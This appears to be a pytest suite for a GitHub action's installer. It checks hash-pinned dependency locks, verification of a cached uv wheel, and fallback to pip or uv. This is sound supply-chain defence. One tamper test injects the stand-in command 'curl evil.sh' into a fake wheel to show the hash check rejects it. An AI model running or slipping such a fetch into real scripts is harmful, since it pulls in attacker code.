"""The action's install: the lock matches pyproject.toml; uv's wheel is used only when its hash is pinned."""

from __future__ import annotations

import hashlib
import importlib.util
import io
import json
import sys
import tomllib
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from local_index import local_index
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

ROOT = Path(__file__).resolve().parents[2]
SPEC = importlib.util.spec_from_file_location("action_install", ROOT / "install" / "action_install.py")
assert SPEC is not None and SPEC.loader is not None
installer = importlib.util.module_from_spec(SPEC)
sys.modules["action_install"] = installer
SPEC.loader.exec_module(installer)


def locked(path: Path) -> dict[str, tuple[str, int]]:
    """Each pinned package of a lock, read as the installer reads it: its version and how many hashes."""
    pins = installer.pins(path.read_text(encoding="utf-8"))
    return {canonicalize_name(pin.name): (pin.version, len(pin.hashes)) for pin in pins}


def test_the_lock_pins_every_dependency_of_pyproject_within_its_range() -> None:
    pins = locked(ROOT / "requirements.txt")
    dependencies = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"][
        "dependencies"
    ]
    for text in dependencies:
        requirement = Requirement(text)
        name = canonicalize_name(requirement.name)
        assert name in pins, f"{name} is in pyproject.toml but not in requirements.txt: regenerate the lock"
        version, _ = pins[name]
        assert requirement.specifier.contains(version, prereleases=True), f"{name}=={version} ∉ {requirement}"
    assert all(count >= 1 for _, count in pins.values()), "every pin carries its hashes"
    assert "uv pip compile pyproject.toml" in (ROOT / "requirements.txt").read_text(encoding="utf-8")[:300]


def test_uv_is_pinned_with_a_hash_for_every_platform_the_fast_way_takes() -> None:
    version, hashes = installer.pinned(installer.UV_LOCK.read_text(encoding="utf-8"), "uv")
    assert version and len(hashes) >= len(installer.UV_WHEEL_TAGS)


@pytest.mark.parametrize(("system", "machine"), [("Windows", "AMD64"), ("Linux", "riscv64")])
def test_a_platform_without_a_pinned_wheel_falls_back(system: str, machine: str) -> None:
    with pytest.raises(installer.InstallProblem, match="no uv wheel"):
        installer.wheel_tag(system, machine)


def fake_wheel(version: str, tag: str) -> bytes:
    """A wheel shaped like uv's, whose binary is a tiny script."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(f"uv-{version}.data/scripts/uv", "#!/bin/sh\necho fake uv\n")
        archive.writestr(f"uv-{version}.dist-info/WHEEL", f"Tag: py3-none-{tag}\n")
    return buffer.getvalue()


@pytest.fixture
def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, bytes]]:
    """A package index on 127.0.0.1 serving a uv wheel for this machine, and the wheel."""
    version = "9.9.9"
    tag = installer.wheel_tag(installer.platform.system(), installer.platform.machine())
    name = f"uv-{version}-py3-none-{tag}.whl"
    wheel = fake_wheel(version, tag)

    def answer(path: str, base: str) -> bytes | None:
        """uv's project page, and its wheel."""
        if path == "/simple/uv/":
            return json.dumps({"files": [{"filename": name, "url": f"{base}/files/{name}"}]}).encode()
        return wheel if path == f"/files/{name}" else None

    with local_index(answer) as (base, _):
        yield f"{base}/simple", wheel


def pin_uv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, digest: str) -> None:
    """Make uv's lock pin `digest`."""
    lock = tmp_path / "requirements-uv.txt"
    lock.write_text(f"uv==9.9.9 \\\n    --hash=sha256:{digest}\n", encoding="utf-8")
    monkeypatch.setattr(installer, "UV_LOCK", lock)


def test_a_pinned_wheel_gives_its_binary_and_is_kept(
    index: tuple[str, bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, wheel = index
    pin_uv(tmp_path, monkeypatch, hashlib.sha256(wheel).hexdigest())
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()

    binary = installer.fetch_uv(tmp_path / "cache", url, tmp_path / "a")
    again = installer.fetch_uv(tmp_path / "cache", "http://127.0.0.1:9/simple", tmp_path / "b")  # no index

    assert binary.read_text(encoding="utf-8").endswith("echo fake uv\n") and binary.stat().st_mode & 0o100
    assert again.read_bytes() == binary.read_bytes()


def test_a_kept_uv_wheel_is_checked_on_every_use(
    index: tuple[str, bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, wheel = index
    pin_uv(tmp_path, monkeypatch, hashlib.sha256(wheel).hexdigest())
    installer.fetch_uv(tmp_path / "cache", url, tmp_path)
    (kept,) = (tmp_path / "cache").glob("uv-*.whl")
    kept.write_bytes(fake_wheel("9.9.9", "tampered").replace(b"echo fake uv", b"curl evil.sh"))

    binary = installer.fetch_uv(tmp_path / "cache", url, tmp_path)  # fetched again: the kept one changed

    assert b"curl" not in binary.read_bytes() and kept.read_bytes() == wheel
    pin_uv(tmp_path, monkeypatch, "1" * 64)
    with pytest.raises(installer.InstallProblem, match="does not match"):
        installer.fetch_uv(tmp_path / "cache", url, tmp_path)


def test_a_wheel_whose_hash_is_not_pinned_is_refused(
    index: tuple[str, bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, _ = index
    pin_uv(tmp_path, monkeypatch, "0" * 64)
    with pytest.raises(installer.InstallProblem, match="does not match the pinned hashes"):
        installer.fetch_uv(tmp_path / "cache", url, tmp_path)
    assert not list(tmp_path.rglob("uv*"))  # neither kept nor written


def test_any_failure_of_the_fast_way_installs_with_pip(tmp_path: Path, monkeypatch) -> None:
    taken = []
    monkeypatch.setattr(installer, "with_pip", lambda venv, python: taken.append(("pip", venv)))
    monkeypatch.setattr(installer.shutil, "which", lambda name: None)
    env = {"INCIDENT_OPS_INSTALL": "uv", "INCIDENT_OPS_FETCH_UV": "never"}
    assert installer.install(tmp_path / "venv", sys.executable, env) == "pip"
    assert taken == [("pip", tmp_path / "venv")]


def test_any_failure_of_the_wheels_way_installs_with_uv_into_a_clean_venv(
    tmp_path: Path, monkeypatch
) -> None:
    venv = tmp_path / "venv"

    def half_done(target: Path, *args: object) -> None:
        (target / "leftover").mkdir(parents=True)
        raise installer.InstallProblem("no pinned wheel for this platform")

    taken = []
    monkeypatch.setattr(installer.wheel_install, "install", half_done)
    monkeypatch.setattr(installer, "with_uv", lambda uv, target, python: taken.append((uv, target.exists())))
    monkeypatch.setattr(installer.shutil, "which", lambda name: "/opt/uv/bin/uv")

    assert installer.install(venv, sys.executable, {}) == "uv (the runner's)"
    assert taken == [("/opt/uv/bin/uv", False)]  # the half-filled venv was removed first


def test_an_unknown_install_way_is_refused_by_name(tmp_path: Path) -> None:
    with pytest.raises(SystemExit, match="INCIDENT_OPS_INSTALL is 'fast': give wheels, uv or pip"):
        installer.install(tmp_path / "venv", sys.executable, {"INCIDENT_OPS_INSTALL": "fast"})
